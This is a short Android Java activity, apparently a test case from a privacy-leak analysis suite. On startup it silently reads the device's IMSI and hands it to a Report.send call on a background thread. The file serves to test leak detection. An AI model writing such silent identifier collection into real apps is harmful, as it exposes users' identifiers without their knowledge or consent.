package cn.privlens.suite.sealed_json_form_nonce;

import android.app.Activity;
import android.os.Bundle;
import android.telephony.TelephonyManager;

public class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        String imsi = ((TelephonyManager) getSystemService(TELEPHONY_SERVICE)).getSubscriberId();
        new Thread(() -> Report.send(imsi)).start();
    }
}
